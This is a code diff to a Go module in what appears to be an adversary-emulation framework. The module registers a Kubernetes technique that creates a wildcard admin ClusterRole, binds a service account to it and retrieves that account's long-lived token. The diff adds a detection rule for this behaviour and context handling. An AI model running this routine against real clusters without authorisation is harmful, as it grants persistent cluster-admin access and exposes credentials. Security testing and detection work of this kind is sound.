@@ -18,11 +18,18 @@ import (
 
 func init() {
 	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
-		ID:                 "k8s.persistence.create-admin-clusterrole",
-		FriendlyName:       "Create Admin ClusterRole",
-		Platform:           stratus.Kubernetes,
-		IsIdempotent:       false,
-		MitreAttackTactics: []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		ID:                    "k8s.persistence.create-admin-clusterrole",
+		FriendlyName:          "Create Admin ClusterRole",
+		Platform:              stratus.Kubernetes,
+		IsIdempotent:          false,
+		MitreAttackTactics:    []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		MitreAttackTechniques: []string{"T1098.006"},
+		DetectionRule: &stratus.DetectionRule{
+			Selections: []stratus.DetectionSelection{
+				{"verb": {"create"}, "objectRef.resource": {"clusterroles"}, "requestObject.rules.verbs": {"*"}, "requestObject.rules.resources": {"*"}},
+			},
+			FalsePositives: []string{"Installation of cluster-wide operators"},
+		},
 		Description: `
 Creates a Service Account bound to a cluster administrator role.
 
@@ -35,8 +42,8 @@ Detonation:
 - Create a Cluster Role Binding
 - Retrieve the long-lived service account token, stored by K8s in a secret
 `,
-		Detonate: detonate,
-		Revert:   revert,
+		DetonateWithContext: detonate,
+		RevertWithContext:   revert,
 	})
 }
 
@@ -61,9 +68,8 @@ var clusterRoleBinding = &rbacv1.ClusterRoleBinding{
 	RoleRef:    rbacv1.RoleRef{Kind: "ClusterRole", Name: clusterRole.Name},
 }
 
-func detonate(_ map[string]string, providers stratus.CloudProviders) error {
+func detonate(ctx context.Context, _ map[string]string, providers stratus.CloudProviders) error {
 	client := providers.K8s().GetClient()
-	ctx := context.Background()
 
 	log.Println("Creating Cluster Role " + clusterRole.ObjectMeta.Name)
 	_, err := client.RbacV1().ClusterRoles().Create(ctx, clusterRole, metav1.CreateOptions{})
@@ -89,7 +95,7 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 	// see https://kubernetes.io/docs/reference/access-authn-authz/service-accounts-admin/#token-controller
 	var secretName string
 	err = wait.PollImmediate(1*time.Second, 1*time.Minute, func() (done bool, err error) {
-		name, err := getServiceAccountSecretName(client)
+		name, err := getServiceAccountSecretName(ctx, client)
 		secretName = name
 		return name != "", err
 	})
@@ -109,8 +115,8 @@ func detonate(_ map[string]string, providers stratus.CloudProviders) error {
 }
 
 // Returns the name of the K8s secret containing the long-lived service account token
-func getServiceAccountSecretName(client *kubernetes.Clientset) (string, error) {
-	serviceAccount, err := client.CoreV1().ServiceAccounts(namespace).Get(context.Background(), serviceAccount.Name, metav1.GetOptions{})
+func getServiceAccountSecretName(ctx context.Context, client kubernetes.Interface) (string, error) {
+	serviceAccount, err := client.CoreV1().ServiceAccounts(namespace).Get(ctx, serviceAccount.Name, metav1.GetOptions{})
 	if err != nil {
 		return "", err
 	}
@@ -120,23 +126,23 @@ func getServiceAccountSecretName(client *kubernetes.Clientset) (string, error) {
 	return "", nil
 }
 
-func revert(_ map[string]string, providers stratus.CloudProviders) error {
+func revert(ctx context.Context, _ map[string]string, providers stratus.CloudProviders) error {
 	client := providers.K8s().GetClient()
 	roleName := clusterRole.Name
 	deleteOpts := metav1.DeleteOptions{GracePeriodSeconds: ptr.Int64(0)}
 
 	log.Println("Deleting ClusterRole " + roleName)
-	err := client.RbacV1().ClusterRoles().Delete(context.Background(), roleName, deleteOpts)
+	err := client.RbacV1().ClusterRoles().Delete(ctx, roleName, deleteOpts)
 	if err != nil {
 		return errors.New("unable to remove ClusterRole " + err.Error())
 	}
 
-	err = client.CoreV1().ServiceAccounts(namespace).Delete(context.Background(), serviceAccount.Name, deleteOpts)
+	err = client.CoreV1().ServiceAccounts(namespace).Delete(ctx, serviceAccount.Name, deleteOpts)
 	if err != nil {
 		return errors.New("unable to remove ServiceAccount " + err.Error())
 	}
 
-	err = client.RbacV1().ClusterRoleBindings().Delete(context.Background(), clusterRoleBinding.Name, deleteOpts)
+	err = client.RbacV1().ClusterRoleBindings().Delete(ctx, clusterRoleBinding.Name, deleteOpts)
 	if err != nil {
 		return errors.New("unable to remove ClusterRoleBinding: " + err.Error())
 	}